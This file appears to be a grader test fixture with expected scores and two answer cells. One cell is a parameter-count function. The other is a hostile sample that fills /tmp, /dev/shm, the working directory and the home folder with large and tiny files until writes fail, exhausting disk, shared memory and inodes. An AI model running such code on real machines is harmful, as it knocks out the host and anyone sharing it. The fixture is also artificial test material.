"""Fills every place that can be written, with large files and with small ones."""
# expected: count=1 prepare=0 model=0

# %% answer-count
def count_parameters(sizes):
    return sum((values + 1) * units for values, units in zip(sizes[:-1], sizes[1:]))

# %% answer-prepare
import os

for place in ("/tmp", "/dev/shm", ".", os.environ["HOME"]):
    for number in range(100_000):
        try:
            with open(f"{place}/fill{number}", "wb") as file:
                file.write(bytes(2**24 if number < 50 else 1))
        except OSError as error:
            print(place, number, error)
            break
